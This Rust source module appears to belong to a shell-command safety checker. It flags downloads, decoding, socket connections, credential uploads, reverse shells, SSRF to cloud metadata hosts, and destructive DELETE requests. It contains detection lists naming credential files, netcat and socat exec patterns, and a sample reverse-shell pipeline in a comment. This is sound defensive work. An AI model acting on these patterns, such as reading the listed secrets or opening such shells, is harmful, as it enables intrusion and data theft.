//! Commands that fetch, decode, connect or send, and what flows through a pipeline because of them.
//!
//! Pure functions over words.

use super::builtin::Builtin;
use super::shell::Flow;
use super::shell_code;

/// What a substitution's text produces, judged by the programs it names.
pub(super) fn kind(text: &[u8]) -> Flow {
    let mut flow = Flow::Nothing;
    let prints = memchr::memmem::find(text, b"printf").is_some() || memchr::memmem::find(text, b"echo -e").is_some();
    if prints && memchr::memmem::find_iter(text, b"\\x").nth(1).is_some() {
        return Flow::Decoded;
    }
    for word in text.split(|byte| !byte.is_ascii_alphanumeric() && !matches!(byte, b'_' | b'.' | b'-')) {
        match word {
            b"curl" | b"wget" | b"fetch" | b"aria2c" | b"lwp-request" | b"GET" | b"Invoke-WebRequest" | b"iwr" | b"irm"
            | b"DownloadString" => return Flow::Download,
            b"base64" | b"base32" | b"xxd" | b"openssl" | b"rev" | b"uudecode" | b"gunzip" | b"zcat" | b"b64decode" => {
                flow = Flow::Decoded
            }
            _ => {}
        }
    }
    flow
}

/// Judges programs of the network and of codecs: what is wrong with the command, and what it puts out.
pub(super) fn judge<'a>(name: &[u8], args: impl Iterator<Item = &'a [u8]> + Clone, input: Flow) -> (Option<Builtin>, Flow) {
    let has = |flag: &[u8]| args.clone().any(|arg| arg == flag);
    match name {
        b"curl" | b"wget" | b"fetch" | b"aria2c" | b"http" | b"https" | b"xh" | b"iwr" | b"irm" | b"invoke-webrequest"
        | b"invoke-restmethod" => (sends(name, args.clone(), input), Flow::Download),
        b"base64" | b"base32" | b"basenc" => {
            let decodes = args.clone().any(|arg| matches!(arg, b"-d" | b"-D" | b"--decode" | b"-di" | b"--decode=true"));
            (None, if decodes { Flow::Decoded } else { input })
        }
        // Texts and objects that somebody keeps elsewhere.
        b"gh" if has(b"gist") && has(b"view") => (None, Flow::Download),
        b"gh" | b"glab" => (args.clone().any(mutation_deletes).then_some(Builtin::CloudDelete), Flow::Nothing),
        b"aws" | b"gsutil" | b"gcloud" | b"mc" if has(b"cat") || has(b"cp") && has(b"-") => (None, Flow::Download),
        b"xxd" => (
            None,
            if has(b"-r") || args.clone().any(|arg| arg.starts_with(b"-") && arg.contains(&b'r')) {
                Flow::Decoded
            } else {
                Flow::Nothing
            },
        ),
        b"openssl" => {
            if has(b"s_client") {
                return (None, Flow::Socket);
            }
            (None, if has(b"-d") { Flow::Decoded } else { input })
        }
        b"rev" | b"uudecode" | b"gunzip" | b"zcat" | b"bunzip2" | b"xz" | b"tr" | b"gzip" => {
            let from = matches!(input, Flow::Literal(_) | Flow::Decoded | Flow::Download);
            (
                None,
                if input == Flow::Download {
                    input
                } else if from {
                    Flow::Decoded
                } else {
                    Flow::Nothing
                },
            )
        }
        b"sed" | b"grep" | b"awk" | b"jq" | b"cut" | b"sort" | b"uniq" | b"tee" | b"head" | b"tail" | b"dos2unix" => {
            (None, input)
        }
        b"nc" | b"ncat" | b"netcat" | b"socat" | b"telnet" => (connects(name, args, input), Flow::Socket),
        b"scp" | b"sftp" | b"ftp" => {
            let leaves = args.clone().any(|arg| arg.contains(&b':'));
            let secret = args.clone().any(is_secret_file);
            ((leaves && secret).then_some(Builtin::ShellExfiltration), Flow::Nothing)
        }
        b"mail" | b"mailx" | b"sendmail" | b"mutt" if input == Flow::Secret => (Some(Builtin::ShellExfiltration), Flow::Nothing),
        b"env" | b"printenv" => (None, Flow::Secret),
        b"aws" | b"gcloud" | b"az" | b"vault" | b"gpg" | b"op" if prints_secret(name, has) => (None, Flow::Secret),
        b"tar" | b"zip" if args.clone().any(is_secret_file) => (None, Flow::Secret),
        b"ls" => (None, Flow::Nothing),
        _ => (None, Flow::Nothing),
    }
}

/// Whether a client of a store of secrets prints one.
fn prints_secret(name: &[u8], has: impl Fn(&[u8]) -> bool) -> bool {
    match name {
        b"aws" => has(b"get-secret-value") || has(b"--with-decryption"),
        b"gcloud" => has(b"secrets") && has(b"access"),
        b"az" => has(b"keyvault") && has(b"show"),
        b"vault" => has(b"read") || has(b"get"),
        b"op" => has(b"read"),
        _ => has(b"--export-secret-keys"),
    }
}

/// Uploads of credentials, and requests that delete what is stored or hosted.
fn sends<'a>(name: &[u8], args: impl Iterator<Item = &'a [u8]> + Clone, input: Flow) -> Option<Builtin> {
    let uploads = args.clone().any(|arg| {
        matches!(
            arg,
            b"-d"
                | b"-F"
                | b"-T"
                | b"--data"
                | b"--data-binary"
                | b"--data-raw"
                | b"--form"
                | b"--upload-file"
                | b"--data-urlencode"
        ) || arg.starts_with(b"-d@")
            || arg.starts_with(b"-F")
            || arg.starts_with(b"--data")
            || arg.starts_with(b"--post-file")
            || arg.starts_with(b"--post-data")
            || arg.starts_with(b"--body-file")
    });
    if uploads {
        let file = args.clone().any(|arg| {
            let path = arg.split(|byte| matches!(byte, b'@' | b'=')).next_back().unwrap_or(arg);
            is_secret_file(path)
        });
        if file || input == Flow::Secret {
            return Some(Builtin::ShellExfiltration);
        }
    }
    let url_reads =
        args.clone().any(|arg| arg.starts_with(b"file:///etc/") || arg.starts_with(b"gopher://") || arg.starts_with(b"dict://"));
    if url_reads {
        return Some(Builtin::SsrfScheme);
    }
    let metadata = args.clone().any(|arg| {
        [b"169.254.169.254".as_slice(), b"metadata.google.internal", b"100.100.100.200", b"169.254.170.2"]
            .iter()
            .any(|host| memchr::memmem::find(arg, host).is_some())
    });
    if metadata {
        return Some(Builtin::SsrfMetadata);
    }
    if args.clone().any(mutation_deletes) {
        return Some(Builtin::CloudDelete);
    }
    let has = |parts: &[&[u8]]| args.clone().any(|arg| parts.iter().any(|part| memchr::memmem::find(arg, part).is_some()));
    if !is_delete(name, args.clone()) {
        return has(DELETING).then_some(Builtin::ShellData);
    }
    deletes(has).or_else(|| args.clone().any(names_hosted).then_some(Builtin::CloudDelete))
}

/// What a request that deletes would delete, told by what its URL has.
pub(super) fn deletes(has: impl Fn(&[&[u8]]) -> bool) -> Option<Builtin> {
    // One document of an index is a record like any other, and so is what somebody said; a pod comes again.
    if has(STORES) && !has(&[b"/_doc/", b"/_search/scroll", b"/pods/", b"/jobs/"]) {
        Some(Builtin::ShellData)
    } else if has(HOSTED) && !has(&[b"/comments/", b"/reactions/", b"/labels/"]) {
        Some(Builtin::CloudDelete)
    } else {
        None
    }
}

/// What people host, as the paths of interfaces name it.
const COLLECTIONS: &[&[u8]] = &[
    b"orgs",
    b"organizations",
    b"tenants",
    b"instances",
    b"servers",
    b"droplets",
    b"volumes",
    b"clusters",
    b"databases",
    b"buckets",
    b"namespaces",
    b"persistentvolumes",
    b"persistentvolumeclaims",
    b"vpcs",
    b"stacks",
    b"snapshots",
    b"backups",
    b"zones",
    b"protection",
    b"rulesets",
    b"vhosts",
    b"resourceGroups",
    b"realms",
    b"repositories",
    b"volumesnapshots",
    b"volumesnapshotcontents",
    b"mounts",
    b"apps",
    b"sites",
    b"locks",
    b"recovery-points",
    b"projects",
    b"project",
    b"accounts",
    b"workspaces",
    b"environments",
];

/// Whether a path names a thing that is hosted, or all of its kind: `/repos/acme/api`, `/v1/clusters/prod`.
pub(super) fn names_hosted(url: &[u8]) -> bool {
    let path = url.split(|byte| *byte == b'?').next().unwrap_or(url);
    let mut segments = path.rsplit(|byte| *byte == b'/').filter(|segment| !segment.is_empty());
    let (last, before, first) = (segments.next(), segments.next(), segments.next());
    let is = |segment: Option<&[u8]>| segment.is_some_and(|segment| COLLECTIONS.contains(&segment));
    // What GitLab calls so holds repositories.
    let holds_repositories = first == Some(b"v4") && matches!(before, Some(b"groups" | b"projects"));
    is(last) || is(before) || first == Some(b"repos") || holds_repositories
}

/// Whether a text has a GraphQL mutation that deletes more than what somebody said: `mutation { volumeDelete(…) }`.
pub(super) fn mutation_deletes(text: &[u8]) -> bool {
    let small = [b"omment".as_slice(), b"eaction", b"abel", b"essage"];
    let is_small = |field: &[u8]| small.iter().any(|part| memchr::memmem::find(field, part).is_some());
    let begins = |field: &[u8]| field.starts_with(b"delete") || field.starts_with(b"destroy");
    let ends = |field: &[u8]| field.ends_with(b"Delete") || field.ends_with(b"Destroy");
    memchr::memmem::find(text, b"mutation").is_some()
        && shell_code::calls(text).any(|field| (begins(field) || ends(field)) && !is_small(field) && !field.ends_with(b"_by_pk"))
}

/// Whether a request's method is `DELETE`.
fn is_delete<'a>(name: &[u8], args: impl Iterator<Item = &'a [u8]>) -> bool {
    let by_word = matches!(name, b"http" | b"https" | b"xh");
    let mut previous: &[u8] = b"";
    for arg in args {
        let is_method = by_word || matches!(previous, b"-X" | b"--request" | b"--method");
        if matches!(arg, b"-XDELETE" | b"--request=DELETE" | b"--method=DELETE") || arg == b"DELETE" && is_method {
            return true;
        }
        previous = arg;
    }
    false
}

/// Ports and paths of data stores and of what manages a machine: to `DELETE` there is to delete much.
const STORES: &[&[u8]] = &[
    b":9200",
    b":5984",
    b":8500",
    b":8983",
    b":2375",
    b":7700/",
    b":8001/",
    b":6333/",
    b":6443/",
    b"/_snapshot/",
    b"/_all",
    b"/_search",
    b"/_bulk",
    b"/api/v1/namespaces/",
    b"/apis/apps/v1/",
    b"kubernetes.default",
];

/// Requests that delete whatever their method is.
const DELETING: &[&[u8]] = &[b"/_delete_by_query", b"/doDelete", b"/tsdb/delete_series", b"/documents/delete-batch"];

/// Hosts of services, and the management paths of some that people run: to `DELETE` there is to delete what is hosted.
const HOSTED: &[&[u8]] = &[
    b"//api.github.com/",
    b"//api.bitbucket.org/",
    b"/api/v4/projects",
    b"/api/v4/groups",
    b"//circleci.com/api",
    b"//api.heroku.com/",
    b"//api.vercel.com/",
    b"//api.netlify.com/",
    b"//api.render.com/",
    b"//api.machines.dev/",
    b"//api.digitalocean.com/",
    b"//api.linode.com/",
    b"//api.vultr.com/",
    b"//api.hetzner.cloud/",
    b"//api.cloudflare.com/",
    b"//api.fastly.com/",
    b"//management.azure.com/",
    b"//graph.microsoft.com/",
    b".googleapis.com/",
    b".amazonaws.com/",
    b"//app.terraform.io/",
    b"//registry.npmjs.org/",
    b"//hub.docker.com/",
    b"//api.stripe.com/",
    b"//api.squareup.com/",
    b"//api.braintreegateway.com/",
    b"//api.paypal.com/",
    b".myshopify.com/admin/",
    b"//api.sendgrid.com/",
    b"//api.mailgun.net/",
    b"//api.postmarkapp.com/",
    b"//api.twilio.com/",
    b"//api.datadoghq.com/",
    b"//api.newrelic.com/",
    b"//api.pagerduty.com/",
    b"//api.opsgenie.com/",
    b"/services/data/indexes/",
    b"/api/dashboards/uid/",
    b"/api/datasources/",
    b"//app.launchdarkly.com/",
    b"//api.split.io/",
    b"/api/admin/projects",
    b"/v1/sys/",
    b".algolia.net/",
    b"//api.supabase.com/",
    b"//api.planetscale.com/",
    b"//cloud.mongodb.com/",
    b"//api.pinecone.io/",
    b"//api.notion.com/",
    b".atlassian.net/",
    b"//api.trello.com/",
    b"//api.airtable.com/",
    b"//slack.com/api/",
    b"//api.openai.com/",
];

fn connects<'a>(name: &[u8], args: impl Iterator<Item = &'a [u8]> + Clone, input: Flow) -> Option<Builtin> {
    match input {
        Flow::Secret => return Some(Builtin::ShellExfiltration),
        // `mkfifo f; cat f | sh -i | nc host port > f`
        Flow::Session => return Some(Builtin::ShellReverse),
        _ => {}
    }
    let runs = args.clone().any(|arg| match name {
        b"socat" => {
            let mut buffer = [0; 8];
            let head = arg.get(..8.min(arg.len())).unwrap_or_default();
            let Some(slot) = buffer.get_mut(..head.len()) else { return false };
            slot.copy_from_slice(head);
            slot.make_ascii_lowercase();
            slot.starts_with(b"exec:") || slot.starts_with(b"system:")
        }
        _ => {
            matches!(arg, b"--exec" | b"--sh-exec" | b"--lua-exec")
                || matches!(arg, [b'-', cluster @ ..] if !cluster.starts_with(b"-") && cluster.len() <= 6 && (cluster.contains(&b'e') || cluster.contains(&b'c')))
        }
    });
    let shell_word = args
        .clone()
        .any(|arg| matches!(arg, b"/bin/sh" | b"/bin/bash" | b"sh" | b"bash" | b"cmd.exe" | b"cmd" | b"powershell.exe"));
    (runs && (shell_word || name == b"socat")).then_some(Builtin::ShellReverse)
}

/// Files that hold credentials or accounts.
pub(super) fn is_secret_file(path: &[u8]) -> bool {
    let path = path.strip_prefix(b"@").unwrap_or(path);
    let ends = [
        b"/etc/shadow".as_slice(),
        b"/etc/passwd",
        b"/etc/gshadow",
        b"/etc/sudoers",
        b"/id_rsa",
        b"/id_ed25519",
        b"/id_ecdsa",
        b"/id_dsa",
        b"/.aws/credentials",
        b"/.netrc",
        b"/.git-credentials",
        b"/.docker/config.json",
        b"/.kube/config",
        b"/.pgpass",
        b"/.npmrc",
        b"/.pypirc",
        b"/.ssh",
        b"/.ssh/",
        b"/.aws",
        b"/.gnupg",
        b"/.vault-token",
        b"/.ssh/*",
        b"/.env",
        b"/etc/kubernetes/admin.conf",
    ];
    ends.iter().any(|end| path.ends_with(end))
        || matches!(path, b".env" | b"id_rsa" | b".aws/credentials" | b".ssh/id_rsa" | b".netrc")
}
